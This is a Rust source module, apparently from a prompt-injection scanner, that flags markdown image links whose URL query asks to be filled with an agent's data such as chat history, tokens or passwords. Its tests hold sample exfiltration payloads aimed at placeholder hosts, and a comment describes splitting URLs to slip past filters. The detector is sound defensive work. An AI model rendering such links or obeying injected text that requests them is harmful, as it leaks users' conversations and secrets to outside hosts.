//! Pictures and links whose address is to be filled with what the agent knows: showing them sends it away. Called by `scan`.

use automode_model::{Hit, Span, Technique};

/// A picture's address that asks to be filled with data.
const PICTURE: u16 = 760;

/// Longest address that is looked at.
const MAX_ADDRESS: usize = 512;

/// Longest text of a picture that is looked at.
const MAX_LABEL: usize = 96;

/// Names of what an agent could fill in.
const DATA: &[&str] = &[
    "data",
    "info",
    "secret",
    "token",
    "chat",
    "history",
    "conversation",
    "summary",
    "prompt",
    "context",
    "message",
    "password",
    "key",
    "answer",
    "question",
    "user_",
    "username",
    "email",
    "content",
    "num",
    "text",
    "sales",
    "credential",
    "env",
    "memory",
    "instruction",
];

/// The pictures of a text that carry data away.
pub(super) fn hits(text: &str) -> Vec<Hit> {
    let mut hits = Vec::new();
    let mut at = 0;
    while let Some(start) = text.get(at..).and_then(|rest| rest.find('!')).map(|n| at + n) {
        at = start + 1;
        if text.as_bytes().get(at) != Some(&b'[') {
            continue;
        }
        at += 1;
        let Some(rest) = text.get(at..) else { break };
        if !rest.as_bytes().iter().take(MAX_LABEL).any(|b| *b == b']') {
            continue;
        }
        let end = rest.bytes().take(MAX_ADDRESS).take_while(|b| *b != b'\n').count();
        let Some(line) = rest.get(..end) else { continue };
        if let Some(bytes) = carries(line) {
            hits.push(Hit { technique: Technique::ExfilLink, span: Span::new(start, at + bytes), score: PICTURE });
            at += bytes;
        }
    }
    hits
}

/// Where the address of a picture ends, if it asks for data.
fn carries(line: &str) -> Option<usize> {
    let open = line.bytes().take(MAX_LABEL).position(|b| b == b']')?;
    let after = line.get(open..)?;
    // `!["x","](htt","ps",…`: an address in pieces is one that a filter must not see.
    let address = open + after.find("](").or_else(|| after.find("\"](").map(|n| n + 1))?;
    let url = line.get(address + 2..)?;
    let url = url.split_once(')').map_or(url, |(url, _)| url);
    let query = url.find(['?', '='])?;
    let rest = url.get(query..)?;
    let (open_at, close) = rest.char_indices().find_map(|(n, c)| match c {
        '[' => Some((n, ']')),
        '{' => Some((n, '}')),
        '<' => Some((n, '>')),
        _ => None,
    })?;
    let hole = rest.get(open_at + 1..)?;
    let name = hole.get(..hole.find(close)?)?;
    let low = name.to_ascii_lowercase();
    let asks = DATA.iter().any(|d| low.contains(d));
    (asks && url.get(..query)?.contains(['/', ':'])).then_some(address + 2 + query + open_at + name.len() + 2)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_address_that_asks_for_data_is_seen() {
        for text in [
            "![s](https://img.example.com/p.png?d=[DATA])",
            "see ![x](https://t.example.net/c?m={conversation}) now",
            "![a](http://203.0.113.4/l?q=<chat history>)",
        ] {
            assert_eq!(hits(text).len(), 1, "{text}");
        }
        for text in [
            "![build](https://ci.example.com/badge.svg?branch=main)",
            "![logo]({{ site.url }}/logo.png)",
            "![a](https://img.example.com/x?logo=b)](https://example.com) [![chat](https://example.com/c)",
            "![](https://example.com/{owner}/{repo}.svg)",
            "![open",
        ] {
            assert!(hits(text).is_empty(), "{text}");
        }
    }
}
